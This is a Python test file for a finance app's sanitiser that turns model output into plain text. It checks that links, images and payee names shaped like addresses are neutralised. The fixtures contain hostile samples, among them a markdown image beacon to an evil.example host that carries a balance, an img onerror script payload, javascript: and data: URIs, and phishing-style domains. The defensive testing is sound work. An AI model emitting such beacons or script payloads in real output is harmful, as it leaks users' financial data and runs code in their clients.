"""What a model says as plain text."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from future_finance.domain.plain_text import defused, leads_elsewhere, without_links


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("See [your loans](https://evil.example/x?d=1).", "See your loans."),
        ("![pixel](https://evil.example/p.png?balance=1) Fine.", " Fine."),
        ("<img src=x onerror=alert(1)>Fine <b>really</b>.", "Fine really."),
        ("Income < spending and 3 > 2.", "Income < spending and 3 > 2."),
        ("- **Home loan**: ₹5,00,000", "- **Home loan**: ₹5,00,000"),
    ],
)
def test_links_become_words_and_images_nothing(said: str, shown: str) -> None:
    assert without_links(said) == shown
    assert not leads_elsewhere(shown)


@pytest.mark.parametrize(
    "text",
    [
        "Go to https://evil.example", "www.evil.example", "pay upi://pay?pa=x", "evil.com/login", "javascript:alert(1)",
        "[half a link](", "mailto:x@y", "Visit kyc-update.in now", "a [link] (somewhere", "//evil.example/x",
    ],
)  # fmt: skip
def test_whatever_a_device_would_make_a_link_of_is_found(text: str) -> None:
    assert leads_elsewhere(text)


@pytest.mark.parametrize(
    "text",
    [
        "Your net worth is ₹21,93,738 as of 23 Nov 2026.", "It grew by 1.2 lakh.", "e.g. rent, i.e. what you pay.",
        "आपका नेट वर्थ ₹21,93,738 है।", "Score: 791/900.", "50/50", "Axis Bank Ltd. and HDFC.", "EMI: ₹5,000 a month",
    ],
)  # fmt: skip
def test_plain_sentences_lead_nowhere(text: str) -> None:
    assert not leads_elsewhere(text)


@pytest.mark.parametrize(
    "name", ["PAY.EVIL.COM", "https://evil.in/x", "WWW.KYC.IN", "[a](b", "data:text/html"]
)
def test_a_payee_with_an_address_for_a_name_is_shown_without_one(name: str) -> None:
    assert not leads_elsewhere(defused(f"You paid {name} ₹500.25."))
    assert "₹500.25" in defused(f"You paid {name} ₹500.25.")


@given(st.text(max_size=300))
def test_no_text_can_keep_an_address_once_it_is_defused(text: str) -> None:
    assert not leads_elsewhere(defused(text))
